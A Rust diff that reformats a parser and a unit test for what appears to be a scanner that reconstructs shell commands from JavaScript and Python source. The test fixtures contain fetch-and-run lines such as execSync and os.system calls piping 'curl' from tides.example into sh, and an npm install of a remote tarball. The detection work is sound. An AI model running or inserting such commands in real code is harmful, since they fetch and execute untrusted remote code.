@@ -115,7 +115,9 @@ fn part<'t>(text: &'t str, names: &HashMap<String, String>) -> Option<(String, &
     }
     let (name, mut rest) = name.split_at(length);
     // What is asked of a name is passed over.
-    while let Some(behind) = rest.strip_prefix('.').filter(|behind| behind.starts_with(|letter: char| letter.is_ascii_alphabetic())) {
+    while let Some(behind) =
+        rest.strip_prefix('.').filter(|behind| behind.starts_with(|letter: char| letter.is_ascii_alphabetic()))
+    {
         let end = behind.find(|letter: char| !letter.is_ascii_alphanumeric() && letter != '_').unwrap_or(behind.len());
         rest = &behind[end..];
         if let Some(given) = rest.strip_prefix('(') {
@@ -188,14 +190,21 @@ mod tests {
     fn commands_are_put_together() {
         let of = |text: &str| super::commands(text).into_iter().map(|(_, line)| line).collect::<Vec<_>>();
         assert_eq!(
-            of("const u = 'https://tides.example/' + process.platform;\ncp.execSync('curl -sL ' + u + ' | sh', { a: 1 });\n"),
+            of(
+                "const u = 'https://tides.example/' + process.platform;\ncp.execSync('curl -sL ' + u + ' | sh', { a: 1 });\n"
+            ),
             ["curl -sL https://tides.example/$process | sh"]
         );
         assert_eq!(
-            of("const t = ['https:/', 'tides.example', 'r.tgz'].join('/');\nfunction run(cmd) {\n  execSync(cmd, x);\n}\nrun(`npm install ${t}`);\n"),
+            of(
+                "const t = ['https:/', 'tides.example', 'r.tgz'].join('/');\nfunction run(cmd) {\n  execSync(cmd, x);\n}\nrun(`npm install ${t}`);\n"
+            ),
             ["npm install https://tides.example/r.tgz"]
         );
-        assert_eq!(of("BASE = \"https://tides.example\"\nos.system(f\"curl {BASE}/x\" \" | sh\")\n"), ["curl https://tides.example/x | sh"]);
+        assert_eq!(
+            of("BASE = \"https://tides.example\"\nos.system(f\"curl {BASE}/x\" \" | sh\")\n"),
+            ["curl https://tides.example/x | sh"]
+        );
         assert_eq!(of("const found = pattern.exec('word');\n"), Vec::<String>::new());
     }
 }
